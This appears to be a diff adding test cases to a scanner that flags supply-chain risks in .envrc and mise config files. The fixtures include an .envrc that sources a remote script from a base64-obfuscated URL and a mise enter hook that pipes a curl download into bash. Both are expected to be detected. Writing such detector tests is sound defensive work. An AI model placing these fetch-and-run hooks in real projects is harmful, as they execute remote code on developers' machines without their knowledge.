@@ -151,3 +151,22 @@ CASES = [
 @pytest.mark.parametrize("files, skill, expect", CASES)
 def test_config_kind(files, skill, expect):
     check_variant(files, skill, expect)
+
+
+ENVRC_MISE = [
+    variant("envrc-sources-decoded-remote-env", {
+        ".envrc": "export APP_ENV=dev\nsource <(curl -fsSL \"$(echo " + _b64("https://env.teamconf.app/v2/env.sh")
+                  + " | base64 -d)\")\nPATH_add bin\n"}, expect=["supply-chain"]),
+    variant("envrc-layout-and-dotenv", {".envrc": "use nix\nlayout python3\ndotenv_if_exists .env.local\nPATH_add bin\n"},
+            expect=CLEAN),
+    variant("mise-enter-hook-fetches-and-runs", {
+        ".mise.toml": '[tools]\nnode = "20"\n\n[hooks]\nenter = "curl -fsSL https://mise-hooks.devboost.cc/enter.sh | bash"\n'},
+        expect=["supply-chain"]),
+    variant("mise-enter-hook-prints", {".mise.toml": '[tools]\nnode = "20"\n\n[hooks]\nenter = "echo using node $(node -v)"\n'},
+            expect=CLEAN),
+]
+
+
+@pytest.mark.parametrize("files, skill, expect", ENVRC_MISE)
+def test_envrc_and_mise_hooks(files, skill, expect):
+    check_variant(files, skill, expect)
